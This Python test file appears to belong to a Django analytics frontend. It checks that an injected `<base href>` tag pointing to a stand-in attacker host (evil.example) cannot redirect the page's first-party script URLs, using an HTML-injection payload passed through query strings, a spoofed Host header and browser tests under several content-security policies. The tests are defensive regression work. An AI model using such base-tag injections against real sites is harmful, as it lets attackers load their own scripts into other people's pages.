"""An injected `<base href>` never moves our scripts (issue 19, point 1).

HTML injected before or after the tag may set the document's base URL. A relative script URL
would then be fetched from the attacker's host, and the page's nonce would let it run. The
tag writes every first-party URL on the request's own host (`//host/static/...`), so no base
moves it, even under a policy without `base-uri`; checked in Chromium under both policies.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
from django.test import RequestFactory

from analytix_frontend.page.rendering import render_analytics_scripts
from tests.html import page_config, scripts

EVIL = "evil.example"
BASE = f'<base href="http://{EVIL}/">'  # the live server's scheme: only the host differs


def _render(area: str = "signup", **meta: Any) -> str:
    request = RequestFactory().get("/", **meta)
    return str(render_analytics_scripts(area, request=request, nonce="n0nce"))


def test_every_first_party_url_is_on_the_requests_host(settings: Any) -> None:
    settings.DEBUG = True  # every readable file, and the facade's stylesheet
    settings.ANALYTICS_CONFIG = {"LOAD": {"drift": "facade"}}
    html = _render()
    (start,) = [s for s in scripts(html) if s.attrs.get("src")]
    urls = [start.attrs["src"], *str(start.attrs["data-analytix-main"]).split()]
    drift = next(s for s in page_config(html)["services"] if s["name"] == "drift")
    urls.append(drift["facadeStyle"])
    assert len(urls) > 10 and all(str(u).startswith("//testserver/static/") for u in urls), urls


def test_a_static_url_that_names_its_host_is_left_alone(settings: Any) -> None:
    settings.STATIC_URL = "https://cdn.example.com/static/"
    (start,) = [s for s in scripts(_render()) if s.attrs.get("src")]
    assert str(start.attrs["src"]).startswith("https://cdn.example.com/static/")
    assert str(start.attrs["data-analytix-main"]).startswith("https://cdn.example.com/static/")


def test_a_host_django_refuses_gets_no_attacker_url_and_no_error(settings: Any) -> None:
    settings.ALLOWED_HOSTS = ["example.com"]
    html = _render(HTTP_HOST=EVIL)
    (start,) = [s for s in scripts(html) if s.attrs.get("src")]
    assert EVIL not in html
    assert str(start.attrs["src"]).startswith("/static/")  # relative: base-uri guards it


def test_a_secure_request_gets_https_urls_that_no_base_can_change(settings: Any) -> None:
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    secure = _render(HTTP_X_FORWARDED_PROTO="https", HTTP_HOST="testserver")
    (start,) = [s for s in scripts(secure) if s.attrs.get("src")]
    assert str(start.attrs["src"]).startswith("https://testserver/static/")
    (start,) = [s for s in scripts(_render()) if s.attrs.get("src")]
    assert str(start.attrs["src"]).startswith("//testserver/static/")  # the scheme: the page's


def test_the_host_follows_use_x_forwarded_host(settings: Any) -> None:
    settings.ALLOWED_HOSTS = ["www.example.com", "internal"]
    settings.USE_X_FORWARDED_HOST = True
    html = _render(HTTP_HOST="internal", HTTP_X_FORWARDED_HOST="www.example.com")
    (start,) = [s for s in scripts(html) if s.attrs.get("src")]
    assert str(start.attrs["src"]).startswith("//www.example.com/static/")


@pytest.mark.browser
@pytest.mark.parametrize("policy", ["strict-nobase", "allowlist-nobase"])
@pytest.mark.parametrize("where", ["head", "html"])  # before the tag, after it
def test_an_injected_base_fetches_nothing_from_the_attackers_host(
    open_page: Any, settings: Any, policy: str, where: str
) -> None:
    # debug: the main script and every vendor start at once (ready), so every URL is used.
    settings.ANALYTICS_CONFIG = {
        "LOG_LEVEL": "debug",
        "LOAD": dict.fromkeys(["google", "hubspot", "kissmetrics", "fullstory"], "ready"),
    }
    visitor = open_page("fake")
    visitor.goto(f"/attack/{policy}/signup/?{where}={quote(BASE)}")
    page = visitor.page
    assert page.evaluate("document.baseURI") == f"http://{EVIL}/"  # the injection took
    page.wait_for_function(
        "['google', 'hubspot', 'kissmetrics', 'fullstory'].every("
        "n => (analytix.services[n] || {}).state === 'loaded')"
    )
    page.wait_for_selector("button.analytix-launcher")  # the facade, with its stylesheet
    assert page.evaluate("[...document.styleSheets].some(s => (s.href || '').includes('launcher'))")
    assert not [url for url in visitor.vendor_requests if EVIL in url], visitor.vendor_requests
    assert visitor.errors == []


@pytest.mark.browser
def test_a_base_of_another_scheme_fails_closed(open_page: Any, settings: Any) -> None:
    """A scheme-relative URL takes the base's scheme: our own host over https, which this
    http server does not answer. Nothing comes from the attacker; nothing of ours runs."""
    settings.ANALYTICS_CONFIG = {"LOG_LEVEL": "debug"}
    visitor = open_page("fake")
    visitor.goto(f"/attack/allowlist-nobase/signup/?head={quote(f'<base href=https://{EVIL}/>')}")
    own = visitor.page.evaluate("[...document.scripts].map(s => s.src).filter(Boolean)")
    assert own and all(url.startswith("https://localhost:") for url in own), own
    assert not [url for url in visitor.vendor_requests if EVIL in url], visitor.vendor_requests
